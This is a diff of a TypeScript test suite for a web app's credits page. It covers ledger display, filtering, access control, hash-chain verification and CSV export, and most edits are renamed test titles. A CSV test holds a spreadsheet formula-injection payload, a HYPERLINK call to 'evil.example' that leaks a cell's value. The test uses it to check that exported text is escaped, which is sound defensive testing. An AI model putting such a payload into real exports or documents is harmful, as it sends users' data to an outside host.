@@ -56,8 +56,8 @@ async function generate(who: Browser, prompt: string, params = {}, model = "pict
   return job_id;
 }
 
-describe("the page about credits", () => {
-  test("shows what there is, what was spent, and each entry with its job", async () => {
+describe("the credits page", () => {
+  test("shows balance and spending, and each entry with its job", async () => {
     await browser.visit("/credits", { cookies: cookiesOf(ada, service.url) }, async (visit) => {
       const { page } = visit;
       expect(await page.locator(".tile__amount").allTextContents()).toEqual(["985", "0", "985"]);
@@ -113,7 +113,7 @@ describe("the page about credits", () => {
     );
   });
 
-  test("[SITE-20] a link of a job's timeline lands on its row, opened; of another person there is none", async () => {
+  test("[SITE-20] opens a job's row from the link in its timeline, and none of another person's job", async () => {
     const { text } = await ada.call(`/jobs/${adasJob}`);
     const [, link = ""] = /href="(\/credits\?entry=[^"]+_debit#entry)"/.exec(text) ?? [];
     await browser.visit(
@@ -131,7 +131,7 @@ describe("the page about credits", () => {
     expect((await ada.call("/credits?entry=led_none")).status).toBe(404);
   });
 
-  test("[SITE-21] is short on a phone, whatever the ledger", async () => {
+  test("[SITE-21] is short on a phone, for any ledger", async () => {
     const many = await signInAs(service, "many@example.com");
     for (let i = 0; i < 40; i++)
       await grant(many, 10, `A grant with a rather long story behind it, number ${i}`);
@@ -142,7 +142,7 @@ describe("the page about credits", () => {
     });
   });
 
-  test("narrows the ledger to a kind, a job or days, with and without scripts", async () => {
+  test("filters the ledger by kind, job and days, with and without scripts", async () => {
     await browser.visit(
       "/credits",
       { cookies: cookiesOf(ada, service.url), scripts: false },
@@ -168,7 +168,7 @@ describe("the page about credits", () => {
       expect([query, (await ada.call(`/credits?${query}`)).status]).toEqual([query, 400]);
   });
 
-  test("goes on page by page, and says so when there is nothing yet", async () => {
+  test("is paged, and says when there are no entries", async () => {
     const grace = await signInAs(service, "grace@example.com");
     const visit = { cookies: cookiesOf(grace, service.url) };
     await browser.visit("/credits", visit, async ({ page, expectAccessible, screenshot }) => {
@@ -188,7 +188,7 @@ describe("the page about credits", () => {
     });
   });
 
-  test("is the person's own: a job of another narrows it to nothing, and a stranger is led to sign in", async () => {
+  test("is empty for another person's job, and leads a visitor to the sign-in", async () => {
     const { status, text } = await eve.call(`/credits?job_id=${adasJob}`);
     expect(status).toBe(200);
     expect(text).toContain("No matching entries");
@@ -206,7 +206,7 @@ describe("the page about credits", () => {
   });
 });
 
-describe("verifying the chain in the browser", () => {
+describe("verifying the ledger in the browser", () => {
   const verify = (
     change: (entries: LedgerEntryResource[]) => LedgerEntryResource[],
   ): Promise<string | null> =>
@@ -229,13 +229,13 @@ describe("verifying the chain in the browser", () => {
   const changed = (seq: number, change: Partial<LedgerEntryResource>) => (entries: LedgerEntryResource[]) =>
     entries.map((entry) => (entry.seq === seq ? { ...entry, ...change } : entry));
 
-  test("[SITE-10] proves that everything is there", async () => {
+  test("[SITE-10] confirms a complete ledger", async () => {
     expect(await verify((entries) => entries)).toBe(
       "Verified. All 9 entries hold: none was changed, left out or cut off, and together they make a balance of 985 with 0 held.",
     );
   });
 
-  test("[SITE-22] remembers when and what it verified, and notices when that is not there any more", async () => {
+  test("[SITE-22] remembers its last result, and notices when those entries are missing", async () => {
     const cleo = await signInAs(service, "cleo@example.com");
     for (let i = 0; i < 3; i++) await grant(cleo, 1);
     await browser.visit("/credits", { cookies: cookiesOf(cleo, service.url) }, async ({ page }) => {
@@ -268,7 +268,7 @@ describe("verifying the chain in the browser", () => {
     });
   });
 
-  test("goes through every page", async () => {
+  test("reads every page", async () => {
     const long = await signInAs(service, "long@example.com");
     for (let i = 0; i < 201; i++) await grant(long, 1);
     await browser.visit("/credits", { cookies: cookiesOf(long, service.url) }, async ({ page }) => {
@@ -278,13 +278,13 @@ describe("verifying the chain in the browser", () => {
     });
   });
 
-  test("[SITE-10] names an entry that was changed, and why it does not hold", async () => {
+  test("[SITE-10] names a changed entry, and the failed check", async () => {
     expect(await verify(changed(4, { amount: -29 }))).toBe(
       "Entry 4 does not hold. Its contents are not those that its hash was made of.",
     );
   });
 
-  test("says what stood in the way of the check", async () => {
+  test("reports why it could not be completed", async () => {
     const answer = await browser.visit(
       "/credits",
       { cookies: cookiesOf(ada, service.url), expectedErrors: /503/ },
@@ -301,8 +301,8 @@ describe("verifying the chain in the browser", () => {
   });
 });
 
-describe("the ledger as a file", () => {
-  test("has every entry, newest first, whatever their number, and keeps what looks like a formula as text", async () => {
+describe("the ledger as CSV", () => {
+  test("has every entry, newest first, and keeps formula-like text as text", async () => {
     const rich = await signInAs(service, "rich@example.com");
     for (let i = 0; i < 101; i++) await grant(rich, 1);
     await grant(rich, 1, FORMULA);
@@ -324,7 +324,7 @@ describe("the ledger as a file", () => {
     expect(lines[2]).toContain(`,"'=HYPERLINK(""https://evil.example?""&A1)",`);
   });
 
-  test("says of which grants a charge was", () => {
+  test("shows the grants of a charge", () => {
     const grants = [
       { grant_id: "led_a", amount: 3 },
       { grant_id: "led_b", amount: 2 },
@@ -338,7 +338,7 @@ describe("the ledger as a file", () => {
     expect(cells({ seq: 1, amount: -5 })[grantsAt]).toBe("");
   });
 
-  test.each(["=1", "+1", "-1", "@x", "\tx", "\rx"])("begins no cell of text with %j", (memo) => {
+  test.each(["=1", "+1", "-1", "@x", "\tx", "\rx"])("escapes a cell of text that starts with %j", (memo) => {
     const entry = { seq: 1, amount: -10, memo } as LedgerEntryResource;
     const cells = csvLine(entry).split(",");
     expect(cells[10]?.replace(/^"/, "")).toMatch(/^'/);
